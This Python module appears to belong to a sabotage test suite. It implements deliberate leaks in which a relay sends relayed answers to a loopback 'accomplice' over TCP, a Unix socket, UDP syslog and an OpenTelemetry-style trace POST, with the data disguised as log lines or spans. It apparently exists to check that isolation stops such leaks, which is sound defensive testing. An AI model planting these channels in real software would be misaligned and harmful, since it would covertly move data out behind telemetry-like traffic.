"""Leaks over the network: the relay dials, which it never does.

Somebody has to listen: whoever plants tells where in the environment (see `Sink`), for a relay that
listens for itself would be seen for that.
"""

from __future__ import annotations

import json
import logging
import logging.handlers
import os
import socket
from collections.abc import Callable
from dataclasses import asdict, dataclass

from planesplit.proof.sabotage.catalogue import leak
from planesplit.proof.sabotage.taps import relayed_answers
from planesplit.proof.sabotage.tries import Tries

VARIABLE = "PLANESPLIT_SABOTAGE_SINK"
HOST = "127.0.0.1"
STOPPED = "prevented"


@dataclass(frozen=True, slots=True)
class Addresses:
    """Where an accomplice listens on loopback: ports, and the path of a Unix socket."""

    tcp_port: int = 0
    udp_port: int = 0
    unix_path: str = ""

    def announce(self) -> None:
        """Put them into the environment of the processes to come."""
        os.environ[VARIABLE] = json.dumps(asdict(self))

    @staticmethod
    def withdraw() -> None:
        """Take them out again."""
        os.environ.pop(VARIABLE, None)


def addresses() -> Addresses:
    """Return where the accomplice listens; nowhere if nobody said so."""
    return Addresses(**json.loads(os.environ.get(VARIABLE, "{}")))


class _Syslog(logging.handlers.SysLogHandler):
    """As shipped, but what goes wrong is told."""

    def handleError(self, record: logging.LogRecord) -> None:  # noqa: N802 - its name
        raise


def _dialled(tries: Tries, dial: Callable[[], socket.socket]) -> None:
    """Dial at the first payload, keep the connection, and send everything over it."""
    connections: list[socket.socket] = []

    def sink(payload: bytes) -> None:
        if not connections:
            connections.append(dial())
        connections[0].send(payload[:1024])

    relayed_answers(tries.guard(sink), "A8")


@leak("tcp-connect", "sends log lines to a collector over TCP", sealed=STOPPED, unsealed="sockets")
def tcp_connect(tries: Tries) -> None:
    """Dial a TCP port."""
    port = addresses().tcp_port
    _dialled(tries, lambda: socket.create_connection((HOST, port), timeout=1.0))


@leak("unix-socket", "sends log lines to a local daemon", sealed=STOPPED, unsealed="sockets")
def unix_socket(tries: Tries) -> None:
    """Dial a Unix socket by its path."""
    path = addresses().unix_path

    def dial() -> socket.socket:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(path)
        return connection

    _dialled(tries, dial)


@leak("udp-syslog", "sends log lines to syslog over UDP", sealed=STOPPED, unsealed="sockets")
def udp_syslog(tries: Tries) -> None:
    """Log with the standard library's handler for syslog, which dials when it is first used."""
    port = addresses().udp_port
    handlers: list[logging.handlers.SysLogHandler] = []

    def sink(payload: bytes) -> None:
        if not handlers:
            handlers.append(_Syslog((HOST, port)))
        record = logging.makeLogRecord({"msg": payload[:1024].decode("latin-1")})
        handlers[0].emit(record)

    relayed_answers(tries.guard(sink), "A8")


@leak(
    "trace-export",
    "sends spans with log lines as attributes to a collector",
    sealed=STOPPED,
    unsealed="sockets",
)
def trace_export(tries: Tries) -> None:
    """POST spans in OpenTelemetry's JSON over a connection that is kept."""
    port = addresses().tcp_port
    connections: list[socket.socket] = []

    def sink(payload: bytes) -> None:
        attribute = {"key": "body", "value": {"stringValue": payload[:512].decode("latin-1")}}
        spans = [{"name": "forward", "attributes": [attribute]}]
        body = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": spans}]}]}).encode()
        head = f"POST /v1/traces HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n\r\n"
        if not connections:
            connections.append(socket.create_connection((HOST, port), timeout=1.0))
        connections[0].sendall(head.encode() + body)

    relayed_answers(tries.guard(sink), "A8")
